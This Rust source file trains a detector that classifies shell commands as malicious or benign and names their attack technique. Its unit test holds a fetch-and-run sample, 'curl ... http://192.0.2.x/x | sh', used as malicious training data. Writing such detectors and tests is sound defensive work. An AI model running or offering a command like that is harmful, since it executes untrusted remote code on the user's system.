//! Fitting: a network by AdamW on candle's slopes, the gate by plain stochastic descent.

use candle_core::{D, DType, Device, Result, Tensor};
use rayon::prelude::*;

use super::adam::Adam;
use super::draw::Draw;
use super::float::{Batch, Float};
use crate::calibration::sigmoid;
use crate::facts::FACTS;
use crate::gate::{Gate, features, scale};
use crate::network::Rows;
use crate::shape::Shape;
use crate::tokens::Tokens;

/// A story ready for fitting.
pub struct Example {
    /// Rows of its tokens.
    pub rows: Vec<Rows>,
    /// Its facts.
    pub facts: [f32; FACTS],
    /// Features of the gate.
    pub gate: Vec<u32>,
    /// Whether it is an attack.
    pub malicious: bool,
    /// How sure the label is.
    pub sure: f32,
    /// Index of its technique, when known.
    pub technique: Option<usize>,
}

impl Example {
    /// From what the model reads of a story.
    pub fn new(
        tokens: &Tokens,
        facts: [f32; FACTS],
        shape: &Shape,
        (malicious, sure): (bool, f32),
        technique: Option<usize>,
    ) -> Self {
        Self {
            rows: tokens
                .iter()
                .map(|(field, piece)| Rows::of(field, piece, shape.rows))
                .collect(),
            facts,
            gate: features(tokens, shape.gate_rows),
            malicious,
            sure,
            technique,
        }
    }
}

const BATCH: usize = 128;
/// Stories of a batch that one thread works on.
const PART: usize = 32;
const DROP: f32 = 0.15;
/// Tokens that an epoch hides, so that no single word carries a story.
const DROP_TOKENS: f32 = 0.06;
/// Words that an epoch reads as no more than what they are for, so that this is learnt beside the words.
const BLUR_WORDS: f32 = 0.06;
/// Weight of naming the technique beside finding malice.
const TECHNIQUE_WEIGHT: f64 = 0.2;

/// The optimizer over all epochs.
pub struct Fitting {
    adam: Vec<Adam>,
    peak_rate: f64,
    step: usize,
    steps: usize,
}

impl Fitting {
    /// For `steps` batches in all, of which `step` are done.
    pub fn new(network: &Float, step: usize, steps: usize) -> Result<Self> {
        let adam = network.vars().into_iter().map(Adam::new);
        Ok(Self {
            adam: adam.collect::<Result<_>>()?,
            peak_rate: network.peak_rate(),
            step,
            steps: steps.max(1),
        })
    }

    /// Number of batches of an epoch.
    pub fn batches(examples: usize) -> usize {
        examples.div_ceil(BATCH)
    }

    /// One pass; the mean loss. `progress` is told the share done.
    pub fn epoch(
        &mut self,
        network: &Float,
        examples: &mut [Example],
        draw: &mut Draw,
        progress: &mut dyn FnMut(f32),
    ) -> Result<f32> {
        draw.shuffle(examples);
        // Stories of about one length share a batch, or most of a batch is padding.
        for chunk in examples.chunks_mut(BATCH * 24) {
            chunk.sort_by_key(|example| example.rows.len());
        }
        let mut starts: Vec<usize> = (0..examples.len()).step_by(BATCH).collect();
        draw.shuffle(&mut starts);
        let mut total = 0.0;
        for (index, start) in starts.iter().enumerate() {
            let batch = &examples[*start..examples.len().min(start + BATCH)];
            let (loss, slopes) = slopes(network, batch, draw)?;
            if !loss.is_finite() {
                candle_core::bail!("the loss of a batch is {loss}");
            }
            let rate = self.next_rate();
            for (index, adam) in self.adam.iter_mut().enumerate() {
                let parts: Vec<&[f32]> = slopes.iter().map(|part| &part[index][..]).collect();
                adam.step(&parts, rate as f32)?;
            }
            total += loss;
            if index % 50 == 0 {
                progress(index as f32 / starts.len() as f32);
            }
        }
        Ok(total / starts.len().max(1) as f32)
    }

    /// Short warm-up, then a cosine.
    fn next_rate(&mut self) -> f64 {
        self.step += 1;
        let warm = (self.steps / 20).max(1);
        if self.step < warm {
            self.peak_rate * self.step as f64 / warm as f64
        } else {
            let done = (self.step - warm) as f64 / (self.steps - warm).max(1) as f64;
            let left = 0.5 * (1.0 + (std::f64::consts::PI * done.min(1.0)).cos());
            self.peak_rate * (0.02 + 0.98 * left)
        }
    }
}

/// Slopes of every set of weights.
type Slopes = Vec<Vec<f32>>;

/// The loss of a batch, and its slopes in parts. They are worked on side by side, each with choices of its own, and
/// added in their order: a fit is the same however many threads there are.
fn slopes(network: &Float, batch: &[Example], draw: &mut Draw) -> Result<(f32, Vec<Slopes>)> {
    let known = batch.iter().filter(|one| one.technique.is_some()).count();
    let parts: Vec<(&[Example], Draw)> = batch
        .chunks(PART)
        .map(|part| (part, draw.another()))
        .collect();
    let found: Vec<(f32, Slopes)> = parts
        .into_par_iter()
        .map(|(part, mut draw)| {
            let loss = loss(network, part, (batch.len(), known), &mut draw)?;
            let found = loss.backward()?;
            let slopes = network.vars().into_iter().map(|var| match found.get(&var) {
                Some(slopes) => slopes.flatten_all()?.to_vec1(),
                None => Ok(vec![0.0; var.elem_count()]),
            });
            Ok((loss.to_scalar()?, slopes.collect::<Result<_>>()?))
        })
        .collect::<Result<_>>()?;
    let loss = found.iter().map(|(loss, _)| loss).sum();
    Ok((loss, found.into_iter().map(|(_, slopes)| slopes).collect()))
}

/// What a part adds to the mean loss of a batch of `stories`, of which `known` have a technique.
fn loss(
    network: &Float,
    part: &[Example],
    (stories, known): (usize, usize),
    draw: &mut Draw,
) -> Result<Tensor> {
    let hidden: Vec<Vec<Rows>> = part
        .iter()
        .map(|example| hide(&example.rows, draw))
        .collect();
    let seen: Vec<(&[Rows], &[f32; FACTS])> = hidden
        .iter()
        .zip(part)
        .map(|(rows, example)| (rows.as_slice(), &example.facts))
        .collect();
    let kept = kept(part.len(), network.features_of_story(), draw)?;
    let logits = network.forward(&Batch::new(&seen, &network.shape)?, Some(&kept))?;
    let targets: Vec<f32> = part
        .iter()
        .map(|example| {
            if example.malicious {
                example.sure
            } else {
                1.0 - example.sure
            }
        })
        .collect();
    let targets = Tensor::from_vec(targets, (part.len(), 1), &Device::Cpu)?;
    let share = part.len() as f64 / stories as f64;
    let malice = (cross_entropy(&logits.narrow(1, 0, 1)?, &targets)? * share)?;
    let named: Vec<(u32, u32)> = part
        .iter()
        .enumerate()
        .filter_map(|(index, example)| Some((index as u32, example.technique? as u32)))
        .collect();
    if named.is_empty() {
        return Ok(malice);
    }
    let share = named.len() as f64 / known as f64;
    let rows = Tensor::from_iter(named.iter().map(|(row, _)| *row), &Device::Cpu)?;
    let wanted = Tensor::from_iter(named.iter().map(|(_, technique)| *technique), &Device::Cpu)?;
    let techniques = logits
        .narrow(1, 1, network.shape.outputs() - 1)?
        .contiguous()?
        .index_select(&rows, 0)?;
    let named = candle_nn::loss::cross_entropy(&techniques, &wanted)?;
    malice + (named * (TECHNIQUE_WEIGHT * share))?
}

/// What each feature of each story counts: some are hidden, the others count the more.
fn kept(stories: usize, features: usize, draw: &mut Draw) -> Result<Tensor> {
    let each = (0..stories * features).map(|_| {
        if draw.unit() < DROP {
            0.0
        } else {
            1.0 / (1.0 - DROP)
        }
    });
    Tensor::from_iter(each, &Device::Cpu)?.reshape((stories, features))
}

/// Binary cross entropy that stays finite for the surest logits: candle's takes the logarithm of a sigmoid.
fn cross_entropy(logits: &Tensor, targets: &Tensor) -> Result<Tensor> {
    let tail = (logits.abs()?.neg()?.exp()? + 1.0)?.log()?;
    ((logits.relu()? - (logits * targets)?)? + tail)?.mean_all()
}

fn hide(rows: &[Rows], draw: &mut Draw) -> Vec<Rows> {
    rows.iter()
        .map(|row| {
            let drawn = draw.unit();
            if drawn < DROP_TOKENS {
                Rows::default()
            } else if drawn < DROP_TOKENS + BLUR_WORDS {
                row.blurred()
            } else {
                *row
            }
        })
        .collect()
}

/// The malice logits of networks in floating point: their mean, for comparison with the quantized ones.
pub fn logits(networks: &[Float], examples: &[&Example]) -> Result<Vec<f32>> {
    let mut mean = vec![0.0; examples.len()];
    for network in networks {
        for (sum, logit) in mean.iter_mut().zip(logits_of(network, examples)?) {
            *sum += logit / networks.len() as f32;
        }
    }
    Ok(mean)
}

fn logits_of(network: &Float, examples: &[&Example]) -> Result<Vec<f32>> {
    let mut found = Vec::with_capacity(examples.len());
    for batch in examples.chunks(BATCH) {
        let stories: Vec<(&[Rows], &[f32; FACTS])> = batch
            .iter()
            .map(|example| (example.rows.as_slice(), &example.facts))
            .collect();
        let logits = network.forward(&Batch::new(&stories, &network.shape)?, None)?;
        found.extend(
            logits
                .narrow(D::Minus1, 0, 1)?
                .flatten_all()?
                .to_dtype(DType::F32)?
                .to_vec1::<f32>()?,
        );
    }
    Ok(found)
}

/// Passes of the gate over the stories it is fitted on.
pub const GATE_PASSES: usize = 6;

/// Fits the gate on the same stories.
pub fn gate(examples: &[Example], rows: u32, passes: usize, draw: &mut Draw) -> Gate {
    let mut gate = Gate::blank(rows);
    let mut squares = vec![1e-6f32; rows as usize];
    let mut fact_squares = [1e-6f32; FACTS];
    let mut order: Vec<usize> = (0..examples.len()).collect();
    for _ in 0..passes {
        draw.shuffle(&mut order);
        for index in &order {
            let example = &examples[*index];
            let found = gate.logit_of(&example.gate, &example.facts);
            let error = sigmoid(found) - f32::from(u8::from(example.malicious));
            gate.bias -= 0.01 * error;
            let share = error * scale(example.gate.len());
            for row in &example.gate {
                let row = *row as usize;
                // A pull to zero on the rows that are read keeps rare ones small.
                let slope = share + 2e-5 * gate.weights[row];
                squares[row] += slope * slope;
                gate.weights[row] -= 0.12 * slope / squares[row].sqrt();
            }
            for (fact, value) in example
                .facts
                .iter()
                .enumerate()
                .filter(|(_, value)| **value != 0.0)
            {
                let slope = error * value;
                fact_squares[fact] += slope * slope;
                gate.facts[fact] -= 0.05 * slope / fact_squares[fact].sqrt();
            }
        }
    }
    gate
}

#[cfg(test)]
mod tests {
    use cordon_behavior::story::Story;

    use super::*;
    use crate::facts;
    use crate::tokens::Limits;
    use crate::train::float::Architecture;

    #[test]
    fn a_fit_is_the_same_on_one_thread_and_on_three() {
        let shape = Shape {
            rows: 256,
            dim: 32,
            channels: 32,
            hidden: 32,
            ..Shape::standard(vec!["T1059".to_owned()])
        };
        let limits = Limits { tokens: 64 };
        let example = |index: usize| {
            let line = if index.is_multiple_of(2) {
                format!("curl -s http://192.0.2.{index}/x | sh")
            } else {
                format!("tail -n {index} notes.txt")
            };
            let story = Story {
                command: Some(line),
                ..Story::default()
            };
            let tokens = Tokens::of(&story, limits, &shape.reads);
            let known = facts::of(&story, &shape.reads);
            let technique = index.is_multiple_of(3).then_some(0);
            Example::new(
                &tokens,
                known,
                &shape,
                (index.is_multiple_of(2), 0.99),
                technique,
            )
        };
        let fitted = |threads: usize| -> Vec<f32> {
            let kind = Architecture::Convolution;
            let network = Float::new(&shape, kind, &mut Draw::new(3)).unwrap();
            let mut examples: Vec<Example> = (0..150).map(example).collect();
            let mut fitting = Fitting::new(&network, 0, 6).unwrap();
            let pool = rayon::ThreadPoolBuilder::new().num_threads(threads);
            let mut draw = Draw::new(5);
            let loss = pool.build().unwrap().install(|| {
                let first = fitting.epoch(&network, &mut examples, &mut draw, &mut |_| {});
                first.unwrap()
                    - fitting
                        .epoch(&network, &mut examples, &mut draw, &mut |_| {})
                        .unwrap()
            });
            assert!(loss > 0.0, "nothing was learnt");
            let weights = network.weights();
            weights["hidden.weight"]
                .flatten_all()
                .unwrap()
                .to_vec1()
                .unwrap()
        };
        assert_eq!(fitted(1), fitted(3));
    }

    #[test]
    fn the_loss_of_sure_logits_is_finite_and_right() {
        let at = |logit: f32, target: f32| {
            let logit = Tensor::new(&[[logit]], &Device::Cpu).unwrap();
            let target = Tensor::new(&[[target]], &Device::Cpu).unwrap();
            cross_entropy(&logit, &target)
                .unwrap()
                .to_scalar::<f32>()
                .unwrap()
        };
        assert!((at(0.0, 1.0) - std::f32::consts::LN_2).abs() < 1e-6);
        assert!((at(500.0, 0.0) - 500.0).abs() < 1e-3);
        assert!(at(500.0, 1.0).abs() < 1e-6);
        assert!((at(-2.0, 1.0) - 2.126_928).abs() < 1e-4);
    }
}
